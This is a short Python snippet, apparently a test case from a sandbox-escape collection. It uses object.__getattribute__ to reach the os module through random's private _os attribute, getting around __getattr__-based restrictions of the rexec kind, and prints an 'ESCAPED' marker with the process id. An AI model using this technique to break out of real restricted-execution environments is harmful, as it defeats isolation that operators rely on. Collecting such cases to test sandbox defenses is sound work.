# technique: object.__getattribute__ passes by any __getattr__
# goal: import
# source: rexec and new-style classes
import random
print('ESCAPED pid=%d' % object.__getattribute__(random, '_os').getpid())
